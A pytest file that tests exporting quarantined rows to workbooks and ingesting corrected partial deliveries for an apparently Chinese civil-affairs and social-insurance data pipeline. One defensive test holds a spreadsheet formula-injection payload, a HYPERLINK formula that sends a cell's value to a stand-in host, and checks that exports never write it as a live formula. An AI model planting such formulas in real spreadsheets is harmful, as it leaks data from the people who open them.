"""Quarantined rows go out as a workbook, come back corrected as a partial delivery, and carry both histories."""

from __future__ import annotations

import zipfile
from collections.abc import Mapping
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest

from expectations import rules_of
from pipelines.deliveries.ingest import ingest
from pipelines.deliveries.ledger import Ledger
from pipelines.deliveries.manifest import deliver
from pipelines.deliveries.quarantine import export
from pipelines.deliveries.receive import receipt_of, receive
from pipelines.errors import ContractBreach, NotReady
from pipelines.periods import Quarter
from pipelines.planning import arrived, in_force
from pipelines.settings import settings
from pipelines.sources import SOURCES
from pipelines.sources.base import SourceTable
from tests.contracts.rows import Row, clean_row, defect, write_file
from tests.contracts.workbooks import HEADER_ROW, Edit, drop, edited, sheets_of

pytestmark = [pytest.mark.stack, pytest.mark.usefixtures("home")]
QUARTER, CUT = Quarter(2018, 4), date(2018, 12, 31)
CLEAN_ROWS = 60


def rows_of(system: str, only: str = "") -> dict[str, list[Row]]:
    """For every table of a system (or one): clean rows, then one row per row rule that breaks it."""
    made = {}
    for table in SOURCES[system].tables:
        if only in ("", table.entity):
            rows = [clean_row(table, number) for number in range(CLEAN_ROWS)]
            for number, rule in enumerate(rules_of(table.name), CLEAN_ROWS):
                broken = defect(table, rule.rule_id, clean_row(table, number), rows[0])
                rows += [broken] if broken is not None else []
            made[table.entity] = rows
    return made


def staged(folder: Path, system: str, rows: Mapping[str, list[Row]], sequence: int = 1, misshapen: bool = True) -> str:
    """A whole delivery, received and staged; its name."""
    tables = {table.entity: table for table in SOURCES[system].tables}
    files = {
        entity: [write_file(tables[entity], given, misshapen, folder / f"{system}-{sequence}-{entity}")]
        for entity, given in rows.items()
    }
    made = deliver(files, system, QUARTER, ["360702"], CUT, "赣州市", sequence, settings().landing)
    assert [one.accepted for one in receive()] == [True]
    ingest(system, QUARTER)
    return made.name


def lake(table: SourceTable, delivery: str, prefix: str = "") -> list[dict[str, Any]]:
    """The clean (or with `quarantine_` the quarantined) rows of a delivery."""
    partition = Ledger().partition(prefix + table.name, QUARTER, f"delivery={delivery}")
    assert partition is not None
    found = duckdb.sql(f"SELECT * FROM '{settings().lake / partition.path}/*.parquet'")
    rows = [dict(zip(found.columns, row, strict=True)) for row in found.fetchall()]
    assert len(rows) == partition.n_rows
    return rows


def place(row: Mapping[str, Any]) -> tuple[str, str, int]:
    return row["delivery_id"], row["file_name"], row["line_number"]


def corrected_place(row: Mapping[str, Any]) -> tuple[str, str, int]:
    return row["corrected_delivery_id"], row["corrected_file_name"], row["corrected_line_number"]


def mend(table: SourceTable, cells: dict[str, str]) -> None:
    """What a clerk does: put right whatever the row breaks, all of it."""
    number = 5000 + int(cells["原行号"])
    for name, text in clean_row(table, number).items():
        column = table.column(name)
        # An optional column that the sender left out is not in what comes back either.
        for header in (column.header, *column.aliases):
            if header in cells:
                cells[header] = text
                break


@pytest.mark.parametrize("system", sorted(SOURCES))
def test_every_row_that_comes_back_corrected_counts_and_carries_both_histories(system: str, tmp_path: Path) -> None:
    base = staged(tmp_path, system, rows_of(system))
    before = {table.entity: lake(table, base) for table in SOURCES[system].tables}
    apart = {table.entity: lake(table, base, "quarantine_") for table in SOURCES[system].tables}
    out = export(system, base, tmp_path / "out.xlsx")
    assert out.rows == sum(map(len, apart.values()))
    assert out.obstacles == ()
    assert out.path is not None
    back = edited(
        out.path, tmp_path / "back.xlsx", {t.zh: lambda cells, t=t: mend(t, cells) for t in SOURCES[system].tables}
    )
    partial = drop(back, system, "更正")
    answers = receive()
    assert [one.accepted for one in answers] == [True], receipt_of(system, partial).read_text(encoding="utf-8")
    ingest(system, QUARTER)
    for table in SOURCES[system].tables:
        merged = lake(table, partial)
        own = [row for row in merged if row["delivery_id"] == partial]
        assert sorted(corrected_place(row) for row in own) == sorted(map(place, apart[table.entity])), table.name
        kept = [row for row in merged if row["delivery_id"] == base]
        assert sorted(map(place, kept)) == sorted(map(place, before[table.entity]))
        assert all(corrected_place(row) == (None, None, None) for row in kept)
        assert lake(table, partial, "quarantine_") == []
    assert export(system, partial, tmp_path / "again.xlsx").path is None


FAMILY = SOURCES["civil_affairs"].tables[0]
PAYMENT = next(table for table in SOURCES["social_insurance"].tables if table.entity == "payment")


def header(table: SourceTable, name: str) -> str:
    return table.column(name).header


def exported(system: str, base: str, folder: Path) -> Path:
    path = export(system, base, folder / f"{base}.xlsx").path
    assert path is not None
    return path


def returned(path: Path, name: str, table: SourceTable, edit: Edit, cover: Mapping[str, str] | None = None) -> str:
    """An export edited and dropped into landing; its name there."""
    changed = edited(path, path.with_name(f"{name}.xlsx"), {table.zh: edit}, cover)
    return drop(changed, table.source, name)


def unknown(numbers: range) -> list[Row]:
    """Rows with a code nobody knows, one key each."""
    return [clean_row(FAMILY, number) | {"assistance_code": "§"} for number in numbers]


def base_of_two_kinds(folder: Path) -> str:
    """Forty clean families and six with an unknown code."""
    rows = [clean_row(FAMILY, number) for number in range(40)] + unknown(range(40, 46))
    return staged(folder, "civil_affairs", {"family": rows}, misshapen=False)


def mend_some(count: int) -> Edit:
    """Put the code of the first rows right and leave the others as they are."""
    left = [count]

    def edit(cells: dict[str, str]) -> None:
        if left[0]:
            left[0] -= 1
            cells[header(FAMILY, "assistance_code")] = "01"

    return edit


def test_what_is_still_wrong_can_be_exported_and_sent_again(tmp_path: Path) -> None:
    base = base_of_two_kinds(tmp_path)
    first = returned(exported("civil_affairs", base, tmp_path), "a", FAMILY, mend_some(4))
    receive()
    ingest("civil_affairs", QUARTER)
    (outcome,) = [one for one in Ledger().staged("civil_affairs") if one.delivery_id == first]
    assert (outcome.rows_in, outcome.rows_clean, outcome.rows_quarantined) == (46, 44, 2)
    receipt = (settings().receipts / "civil_affairs" / f"{first}.staging.txt").read_text(encoding="utf-8")
    assert "共 46 行,通过 44 行,待改正 2 行" in receipt
    assert "本批送回 6 行" in receipt
    assert "待改正行送回 6 行、未送回 0 行,通过的行替换 0 行、沿用 40 行" in receipt
    apart = lake(FAMILY, first, "quarantine_")
    assert {row["delivery_id"] for row in apart} == {first}
    second = returned(exported("civil_affairs", first, tmp_path), "b", FAMILY, mend_some(2))
    receive()
    ingest("civil_affairs", QUARTER)
    rows = lake(FAMILY, second)
    assert len(rows) == 46
    assert lake(FAMILY, second, "quarantine_") == []
    # The last two say where they stood in the first correction, the first four still where they stood in the base.
    assert sorted({(row["delivery_id"], row["corrected_delivery_id"]) for row in rows}, key=str) == sorted(
        {(base, None), (first, base), (second, first)}, key=str
    )


def test_rows_that_do_not_come_back_stay_quarantined(tmp_path: Path) -> None:
    base = base_of_two_kinds(tmp_path)
    first = returned(
        exported("civil_affairs", base, tmp_path), "a", FAMILY,
        lambda cells: cells["原行号"] in ("43", "44") and (cells.update({header(FAMILY, "assistance_code"): "02"}) or True),
    )  # fmt: skip
    receive()
    ingest("civil_affairs", QUARTER)
    assert len(lake(FAMILY, first)) == 42
    apart = lake(FAMILY, first, "quarantine_")
    assert [row["delivery_id"] for row in apart] == [base] * 4
    again = export("civil_affairs", first, tmp_path / "again.xlsx")
    assert again.rows == 4
    assert {row[1] for row in sheets_of(tmp_path / "again.xlsx")[FAMILY.zh][HEADER_ROW:]} == {base}


def test_a_row_with_the_key_of_a_clean_one_replaces_it(tmp_path: Path) -> None:
    base = base_of_two_kinds(tmp_path)
    held = next(row for row in lake(FAMILY, base) if row["family_number"] == clean_row(FAMILY, 7)["family_number"])

    def edit(cells: dict[str, str]) -> bool:
        """One row only, without its origin: what the clerk adds for a family that was clean and is wrong."""
        first = cells["原行号"] == "43"
        cells.update({header(FAMILY, name): text for name, text in clean_row(FAMILY, 7).items()})
        cells.update({header(FAMILY, "covered_members"): "5", "原批次": "", "原文件": "", "原行号": ""})
        return first

    partial = returned(exported("civil_affairs", base, tmp_path), "a", FAMILY, edit)
    receive()
    ingest("civil_affairs", QUARTER)
    (now,) = [row for row in lake(FAMILY, partial) if row["family_number"] == held["family_number"]]
    assert (now["delivery_id"], now["covered_members"]) == (partial, 5)
    assert corrected_place(now) == place(held)
    assert len(lake(FAMILY, partial)) == 40
    assert len(lake(FAMILY, partial, "quarantine_")) == 6


def test_where_keys_are_not_unique_only_the_row_itself_is_replaced(tmp_path: Path) -> None:
    """Two items paid under one key: the corrected one must not push out the other."""
    twice = [clean_row(PAYMENT, number // 2) for number in range(60)]
    bad = clean_row(PAYMENT, 3) | {"payment_item_code": "§"}
    base = staged(tmp_path, "social_insurance", {"payment": [*twice, bad]}, misshapen=False)
    item = clean_row(PAYMENT, 3)["payment_item_code"]
    column = PAYMENT.column("payment_item_code")

    def edit(cells: dict[str, str]) -> None:
        cells[next(name for name in (column.header, *column.aliases) if name in cells)] = item

    partial = returned(exported("social_insurance", base, tmp_path), "a", PAYMENT, edit)
    receive()
    ingest("social_insurance", QUARTER)
    assert len(lake(PAYMENT, partial)) == 61
    assert lake(PAYMENT, partial, "quarantine_") == []


def test_nothing_that_is_written_is_a_formula(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://x/?"&A1,"x")'
    rows = [clean_row(FAMILY, number) for number in range(20)]
    rows += [clean_row(FAMILY, 20 + n) | {"assistance_code": mark, "name_1": hostile} for n, mark in enumerate("=+-@")]
    base = staged(tmp_path, "civil_affairs", {"family": rows}, misshapen=False)
    path = exported("civil_affairs", base, tmp_path)
    with zipfile.ZipFile(path) as package:
        parts = [package.read(name).decode() for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
    assert any("HYPERLINK" in part for part in parts)
    assert not any("<f>" in part or "<f " in part or "<hyperlink" in part for part in parts)
    partial = returned(path, "a", FAMILY, mend_some(4))
    receive()
    ingest("civil_affairs", QUARTER)
    assert sum(row["name_1"] == hostile for row in lake(FAMILY, partial)) == 4


REFUSALS: dict[str, tuple[dict[str, str], str]] = {
    "an unknown delivery": ({"更正批次": "2018Q4-没有"}, "corrects_unknown"),
    "another quarter": ({"所属季度": "2018Q3", "数据截止日": "2018-09-30"}, "corrects_unknown"),
    "another scope": ({"报送范围": "360703 南康区"}, "corrects_another_scope"),
    "another cut date": ({"数据截止日": "2018-12-30"}, "corrects_another_scope"),
    "the same sequence": ({"报送序号": "1"}, "corrects_sequence"),
}


def codes(system: str, delivery: str) -> list[str]:
    (found,) = [one for one in Ledger().deliveries(system) if one.delivery_id == delivery]
    return [reason["code"] for reason in found.reasons]


@pytest.mark.parametrize("case", REFUSALS)
def test_a_correction_that_fits_no_base_is_refused(case: str, tmp_path: Path) -> None:
    cover, code = REFUSALS[case]
    base = base_of_two_kinds(tmp_path)
    partial = returned(exported("civil_affairs", base, tmp_path), "a", FAMILY, mend_some(6), cover)
    assert [one.accepted for one in receive()] == [False]
    assert codes("civil_affairs", partial) == [code]
    text = receipt_of("civil_affairs", partial).read_text(encoding="utf-8")
    assert "退回更正不能接收" in text
    assert "怎么改" in text


def test_of_two_corrections_of_one_delivery_the_second_is_refused(tmp_path: Path) -> None:
    """It knows nothing of the first, and would undo it."""
    base = base_of_two_kinds(tmp_path)
    path = exported("civil_affairs", base, tmp_path)
    first = returned(path, "a", FAMILY, mend_some(3))
    second = returned(path, "b", FAMILY, mend_some(6), {"报送序号": "3"})
    assert {one.delivery_id: one.accepted for one in receive()} == {first: True, second: False}
    assert codes("civil_affairs", second) == ["corrects_superseded"]
    assert first in receipt_of("civil_affairs", second).read_text(encoding="utf-8")
    assert [reason.code for reason in export("civil_affairs", base, tmp_path / "late.xlsx").obstacles] == [
        "corrects_superseded"
    ]


def test_what_was_stopped_is_no_base(tmp_path: Path) -> None:
    base = staged(tmp_path, "civil_affairs", {"family": unknown(range(20))}, misshapen=False)
    with pytest.raises(NotReady):
        export("civil_affairs", base, tmp_path / "x.xlsx")
    with pytest.raises(ContractBreach):
        export("civil_affairs", "no such delivery", tmp_path / "x.xlsx")
    other = staged(
        tmp_path, "civil_affairs", {"family": [clean_row(FAMILY, n) for n in range(20)] + unknown(range(20, 24))}, 2
    )
    partial = returned(exported("civil_affairs", other, tmp_path), "a", FAMILY, mend_some(4), {"更正批次": base})
    receive()
    assert "corrects_not_staged" in codes("civil_affairs", partial)


def test_the_corrected_delivery_is_what_counts(tmp_path: Path) -> None:
    base = base_of_two_kinds(tmp_path)
    partial = returned(exported("civil_affairs", base, tmp_path), "a", FAMILY, mend_some(6))
    receive()
    ingest("civil_affairs", QUARTER)
    parts = in_force(arrived(Ledger()), SOURCES["civil_affairs"], FAMILY.name, QUARTER, frozenset(["360702"]))
    assert [(part.delivery.delivery_id, part.counties) for part in parts] == [(partial, {"360702"})]


def test_no_person_stands_in_what_a_correction_says(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    base = base_of_two_kinds(tmp_path)
    partial = returned(exported("civil_affairs", base, tmp_path), "a", FAMILY, mend_some(3))
    receive()
    ingest("civil_affairs", QUARTER)
    said = [caplog.text, str(Ledger().deliveries()), str(Ledger().staged())]
    said += [path.read_text(encoding="utf-8") for path in settings().receipts.rglob("*") if path.is_file()]
    number = lake(FAMILY, partial)[0]["id_number_1"]
    assert not any("张三" in text or number in text for text in said)
